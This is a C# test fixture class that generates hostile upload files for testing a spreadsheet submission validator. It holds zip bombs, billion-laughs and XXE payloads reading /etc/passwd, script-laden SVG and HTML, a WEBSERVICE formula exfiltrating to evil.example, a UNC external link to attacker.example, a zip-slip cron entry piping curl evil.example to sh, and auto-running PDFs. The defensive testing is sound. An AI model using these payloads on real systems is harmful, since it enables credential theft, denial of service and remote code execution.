using System.IO.Compression;
using System.Security;
using System.Text;
using Supervision.Reports.Submissions;

namespace Supervision.Tests.Web.Hostile;

/// <summary>
/// Bad files, generated at test time (bombs included, so nothing large sits in git). Each is small on the wire and
/// hostile in one way: the wrong type under a spreadsheet's name, cut short, inflating, entity-expanding, or
/// carrying formulas and markup in cells of an otherwise valid return.
/// </summary>
public static class HostileFiles
{
    public static readonly string[] NingxiaCities = ["640100", "640200", "640300", "640400", "640500"];
    private const string Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    public static byte[] ValidRnMonthly(string period = "2026-09") => ReturnFileGenerator.RnMonthly(new GeneratedReturn("CMCC-64", period, NingxiaCities, 11));

    public static byte[] ValidLogQuarterly(string period = "2026-Q3") => ReturnFileGenerator.LogQuarterly(new GeneratedReturn("CMCC-64", period, NingxiaCities, 11));

    /// <summary>A valid LOG-QUARTERLY return whose 存储位置 cells (free text) say <paramref name="text"/> instead.</summary>
    public static byte[] LogQuarterlyWithText(string text) => Replace(ValidLogQuarterly(), "省公司数据中心", SecurityElement.Escape(text)!);

    public static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);

    public static byte[] Pdf() => Ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    public static byte[] Exe()
    {
        var exe = new byte[1024];
        "MZ"u8.CopyTo(exe);
        BitConverter.TryWriteBytes(exe.AsSpan(0x3C), 0x80);
        "PE\0\0"u8.CopyTo(exe.AsSpan(0x80));
        "This program cannot be run in DOS mode."u8.CopyTo(exe.AsSpan(0x4E));
        return exe;
    }

    public static byte[] Elf() => [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0];

    public static byte[] Png(int width = 512, int height = 512, byte colourType = 6)
    {
        var png = new List<byte>([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13]);
        png.AddRange("IHDR"u8.ToArray());
        png.AddRange(BigEndian(width));
        png.AddRange(BigEndian(height));
        png.AddRange([8, colourType, 0, 0, 0, 0, 0, 0, 0]);
        return [.. png];
    }

    /// <summary>An opaque PNG whose next chunk claims a length near int.MaxValue (the seal check walks chunks looking for tRNS).</summary>
    public static byte[] PngWithForgedChunkLength() => [.. Png(colourType: 2), .. BigEndian(int.MaxValue - 4), .. "tEXt"u8.ToArray(), 0, 0, 0, 0];

    public static byte[] Jpeg() => [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xD9];

    public static byte[] Gif() => Ascii("GIF89a\x01\0\x01\0\0\0\0;");

    public static byte[] Svg() => Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(document.cookie)</script></svg>");

    public static byte[] Html() => Encoding.UTF8.GetBytes("<html><body><script>alert(1)</script><table><tr><td>640100</td></tr></table></body></html>");

    public static byte[] Ole2()
    {
        var ole = new byte[2048];
        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(ole, 0);
        return ole;
    }

    public static byte[] Random(int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }

    public static byte[] Truncated(byte[] file, int keep) => file[..keep];

    public static byte[] Docx() => Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>")),
        ("word/document.xml", Encoding.UTF8.GetBytes("<w:document xmlns:w=\"urn:x\"/>"))]);

    /// <summary>A real return plus one entry of zeros that inflates about 1000:1 (8 MB from ~8 KB).</summary>
    public static byte[] ZipBombRatio() => AddEntries(ValidRnMonthly(), [("xl/media/zeros.bin", new byte[8 * 1024 * 1024])]);

    /// <summary>A real return plus 20,000 empty entries: a central directory that costs memory to list.</summary>
    public static byte[] ZipBombEntries() => AddEntries(ValidRnMonthly(), Enumerable.Range(0, 20_000).Select(i => ($"xl/media/e{i}.bin", Array.Empty<byte>())));

    public static byte[] BillionLaughs()
    {
        var sb = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE sst [<!ENTITY lol \"lol\">");
        for (var i = 1; i <= 9; i++)
            sb.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat(i == 1 ? "&lol;" : $"&lol{i - 1};", 10))}\">");
        sb.Append($"]><sst xmlns=\"{Main}\" count=\"1\" uniqueCount=\"1\"><si><t>&lol9;</t></si></sst>");
        return ReplacePart(ValidRnMonthly(), "xl/sharedStrings.xml", sb.ToString());
    }

    public static byte[] ExternalEntity() => ReplacePart(ValidRnMonthly(), "xl/workbook.xml",
        $"<?xml version=\"1.0\"?><!DOCTYPE workbook [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><workbook xmlns=\"{Main}\"><sheets><sheet name=\"&xxe;\" sheetId=\"1\" r:id=\"rId1\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/></sheets></workbook>");

    public static byte[] DeepXml()
    {
        var deep = string.Concat(Enumerable.Repeat("<x>", 20_000)) + string.Concat(Enumerable.Repeat("</x>", 20_000));
        return ReplacePart(ValidRnMonthly(), "xl/sharedStrings.xml", $"<sst xmlns=\"{Main}\"><si>{deep}</si></sst>");
    }

    public static byte[] RowBeyondLimit() => Sheet1($"<row r=\"300001\"><c r=\"A300001\"><v>1</v></c></row>");

    public static byte[] ColumnBeyondLimit() => Sheet1("<row r=\"1\"><c r=\"XFD1\"><v>1</v></c></row>");

    public static byte[] CellTooLong() => Sheet1($"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{new string('长', 40_000)}</t></is></c></row>");

    public static byte[] FormulaCell() => FormulaCell("WEBSERVICE(\"http://evil.example/?\"&A2)");

    /// <summary>A real return whose first sheet has one cell with the given formula.</summary>
    public static byte[] FormulaCell(string formula) => Sheet1($"<row r=\"1\"><c r=\"A1\"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>0</v></c></row>");

    /// <summary>The first worksheet of a real return replaced by the given sheet data.</summary>
    private static byte[] Sheet1(string sheetData) =>
        ReplacePart(ValidRnMonthly(), "xl/worksheets/sheet1.xml", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"{Main}\"><sheetData>{sheetData}</sheetData></worksheet>");

    private const string Relationships = "http://schemas.openxmlformats.org/package/2006/relationships";

    /// <summary>A valid return that also carries a VBA project (the part Excel runs as macros in an .xlsm).</summary>
    public static byte[] WithVbaProject() => AddEntries(ValidRnMonthly(), [("xl/vbaProject.bin", Ole2())]);

    /// <summary>A valid return with an external workbook link whose target is a network share (opening it reaches out, leaking credentials).</summary>
    public static byte[] WithExternalLink() => AddEntries(ValidRnMonthly(),
    [
        ("xl/externalLinks/externalLink1.xml", Encoding.UTF8.GetBytes($"<externalLink xmlns=\"{Main}\"><externalBook r:id=\"rId1\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/></externalLink>")),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", Encoding.UTF8.GetBytes($"<Relationships xmlns=\"{Relationships}\"><Relationship Id=\"rId1\" " +
            "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\"file:///\\\\attacker.example\\share\\book.xlsx\" TargetMode=\"External\"/></Relationships>")),
    ]);

    /// <summary>A valid return plus one entry under the given name (a "../" or absolute path an unzipping program would write outside its folder).</summary>
    public static byte[] WithEntry(string name) => AddEntries(ValidRnMonthly(), [(name, Encoding.UTF8.GetBytes("* * * * * root curl evil.example | sh"))]);

    /// <summary>A one-page PDF whose catalog runs JavaScript when it is opened.</summary>
    public static byte[] PdfWithJavaScript() => Ascii(
        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
        "3 0 obj << /S /JavaScript /JS (app.launchURL\\(\"http://evil.example\"\\);) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A PDF that, when opened, submits its form to a server (and so tells it who opened it, and when).</summary>
    public static byte[] PdfSubmittingOnOpen() => Ascii(
        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
        "3 0 obj << /S /SubmitForm /F << /FS /URL /F (http://evil.example/opened) >> /Flags 4 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A PDF carrying an executable as an embedded file.</summary>
    public static byte[] PdfWithEmbeddedFile() => Ascii(
        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(readme.exe) 3 0 R] >> >> >> endobj\n" +
        "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /Type /Filespec /F (readme.exe) /EF << /F 4 0 R >> >> endobj\n" +
        "4 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    public static byte[] Csv(string text) => [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)];

    private static byte[] BigEndian(int value) => [(byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value];

    public static byte[] Zip(IEnumerable<(string Name, byte[] Bytes)> entries)
    {
        var ms = new MemoryStream();
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, bytes) in entries)
            {
                using var s = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
                s.Write(bytes);
            }
        return ms.ToArray();
    }

    private static byte[] Rewrite(byte[] xlsx, Func<string, byte[], byte[]?> map, IEnumerable<(string Name, byte[] Bytes)>? extra = null)
    {
        var entries = new List<(string, byte[])>();
        using (var zip = new ZipArchive(new MemoryStream(xlsx), ZipArchiveMode.Read))
            foreach (var e in zip.Entries)
            {
                using var s = e.Open();
                var ms = new MemoryStream();
                s.CopyTo(ms);
                if (map(e.FullName, ms.ToArray()) is { } bytes) entries.Add((e.FullName, bytes));
            }
        return Zip(entries.Concat(extra ?? []));
    }

    private static byte[] AddEntries(byte[] xlsx, IEnumerable<(string, byte[])> extra) => Rewrite(xlsx, (_, b) => b, extra);

    private static byte[] ReplacePart(byte[] xlsx, string part, string xml)
    {
        var found = false;
        var result = Rewrite(xlsx, (name, b) => { if (name != part) return b; found = true; return Encoding.UTF8.GetBytes(xml); });
        return found ? result : AddEntries(result, [(part, Encoding.UTF8.GetBytes(xml))]);
    }

    private static byte[] Replace(byte[] xlsx, string find, string replace)
    {
        var found = false;
        var result = Rewrite(xlsx, (_, b) =>
        {
            var text = Encoding.UTF8.GetString(b);
            if (!text.Contains(find)) return b;
            found = true;
            return Encoding.UTF8.GetBytes(text.Replace(find, replace));
        });
        if (!found) throw new InvalidOperationException($"“{find}” is not in the workbook");
        return result;
    }
}
